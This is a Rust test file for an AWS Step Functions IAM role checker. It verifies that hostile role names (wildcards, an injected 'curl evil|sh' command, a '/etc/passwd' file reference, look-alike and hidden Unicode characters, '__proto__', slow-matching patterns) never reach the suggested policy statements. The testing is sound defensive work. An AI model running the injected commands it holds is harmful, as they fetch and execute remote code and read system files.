//! Hostile and careless documents: names that want to be code, letters that look like others,
//! patterns that want to be slow.

use serde_json::json;
use sfn_role_check::report::{CheckKind, Verdict};
use test_support::{Case, notices, statement, verdicts};

#[test]
fn no_wildcard_and_no_code_gets_from_a_definition_into_a_statement() {
    for role in [
        "arn:aws:iam::111122223333:role/*",
        "arn:aws:iam::111122223333:role/a?",
        "arn:aws:iam::*:role/a",
        "arn:aws:iam::111122223333:role/x;curl evil|sh",
        "arn:aws:iam::111122223333:role/${file(\"/etc/passwd\")}*",
        "arn:aws:iam::111122223333:role/\u{202e}nimda",
        "arn:aws:s3:::bucket",
        "*",
        "x;curl evil|sh",
    ] {
        let report = Case::new()
            .task(
                "arn:aws:states:::mediaconvert:createJob",
                &json!({"Role": role}),
            )
            .policy(&json!([]))
            .report();
        for fix in &report.fixes {
            let statement = serde_json::to_value(&fix.statement).unwrap();
            let resource = statement["Resource"].as_str().unwrap();
            assert!(
                !resource.contains(['*', '?', ';', '|', '"', ' ', '\u{202e}']),
                "{role}: {resource}"
            );
            assert!(!fix.placeholders.is_empty(), "{role}: {resource}");
        }
        let all = Case::new()
            .task(
                "arn:aws:states:::mediaconvert:createJob",
                &json!({"Role": role}),
            )
            .policy(&json!([statement("Allow", "*", "*")]))
            .report();
        assert_ne!(
            verdicts(&all, CheckKind::PassRole),
            [Verdict::Granted],
            "{role} is no role"
        );
    }
}

#[test]
fn settings_do_not_get_into_a_trust_statement_unseen() {
    let target = "arn:aws:iam::444455556666:role/target";
    let state = json!({"Type": "Task", "Resource": "arn:aws:states:::lambda:invoke", "Credentials": {"RoleArn": target}, "End": true});
    let report = Case::bare()
        .setting("executionRole", "arn:aws:iam::111122223333:role/*")
        .setting(
            "stateMachineArn",
            "arn:aws:states:eu-west-1:111122223333:stateMachine:*",
        )
        .state(&state)
        .policy(&json!([statement("Allow", "sts:AssumeRole", target)]))
        .policy_of("trust-policy", target, &json!([]))
        .report();
    assert_eq!(report.fixes.len(), 1);
    let statement = serde_json::to_string(&report.fixes[0].statement).unwrap();
    assert!(!statement.contains('*'), "{statement}");
    assert!(!report.fixes[0].placeholders.is_empty());
}

#[test]
fn letters_that_look_like_others_are_told() {
    let cyrillic = "arn:aws:iam::111122223333:role/\u{430}pp";
    let report = Case::new()
        .task(
            "arn:aws:states:::mediaconvert:createJob",
            &json!({"Role": "arn:aws:iam::111122223333:role/app"}),
        )
        .policy(&json!([statement("Allow", "iam:PassRole", cyrillic)]))
        .report();
    assert_eq!(
        verdicts(&report, CheckKind::PassRole),
        [Verdict::Undecided],
        "IAM refuses such a policy"
    );
    assert!(notices(&report).contains(&"look-alike-characters".to_owned()));
    let hidden = json!({"StartAt": "a", "States": {"Ru\u{200b}n": {"Type": "Task", "Resource": "arn:aws:states:::sns:publish", "End": true}}});
    let report = Case::new()
        .text("machine.json", "state-machine", &hidden.to_string())
        .report();
    assert_eq!(notices(&report), ["look-alike-characters"]);
    let japanese = "arn:aws:iam::${アカウントID}:role/app";
    let report = Case::new()
        .task(
            "arn:aws:states:::mediaconvert:createJob",
            &json!({"Role": japanese}),
        )
        .policy(&json!([]))
        .report();
    assert!(notices(&report).is_empty(), "{:?}", notices(&report));
}

#[test]
fn proto_is_a_name_like_any_other() {
    let text = r#"{"StartAt": "__proto__", "States": {"__proto__": {"Type": "Task", "Resource": "arn:aws:states:::mediaconvert:createJob", "Parameters": {"Role": "arn:aws:iam::111122223333:role/__proto__"}, "End": true}}}"#;
    let report = Case::new()
        .text("machine.json", "state-machine", text)
        .policy(&json!([]))
        .report();
    assert_eq!(report.state_machines[0].tasks[0].state, "__proto__");
    assert_eq!(verdicts(&report, CheckKind::PassRole), [Verdict::Missing]);
}

/// Steps would be counted in minutes here if any of these were more than linear in each.
#[test]
fn hostile_patterns_end() {
    let stars = "*a".repeat(400);
    let role = format!("arn:aws:iam::111122223333:role/{}", "a".repeat(64));
    let holes = "${x}a".repeat(100);
    let statements: Vec<_> = (0..60)
        .map(|at| {
            statement(
                "Allow",
                "iam:PassRole",
                &format!("arn:aws:iam::111122223333:role/{stars}{at}b"),
            )
        })
        .chain((0..50).map(|at| {
            statement(
                "Deny",
                &format!("iam:{}", "*?".repeat(300)),
                &format!("arn:aws:iam::*:role/{holes}{at}"),
            )
        }))
        .collect();
    let report = Case::new()
        .task(
            "arn:aws:states:::mediaconvert:createJob",
            &json!({"Role": role}),
        )
        .policy(&json!(statements))
        .report();
    assert_eq!(verdicts(&report, CheckKind::PassRole), [Verdict::Missing]);
    let report = Case::new()
        .task(
            "arn:aws:states:::mediaconvert:createJob",
            &json!({"Role": format!("arn:aws:iam::111122223333:role/{holes}")}),
        )
        .policy(&json!(statements))
        .report();
    assert_eq!(report.checks.len(), 1);
}

#[test]
fn long_chains_of_states_and_branches_are_read() {
    let mut inner = json!({"StartAt": "Run", "States": {"Run": {"Type": "Task", "Resource": "arn:aws:states:::sns:publish", "End": true}}});
    for _ in 0..40 {
        inner = json!({"StartAt": "P", "States": {"P": {"Type": "Parallel", "Branches": [inner], "End": true}}});
    }
    let report = Case::new()
        .text("machine.json", "state-machine", &inner.to_string())
        .report();
    assert_eq!(report.state_machines[0].tasks.len(), 1);
}
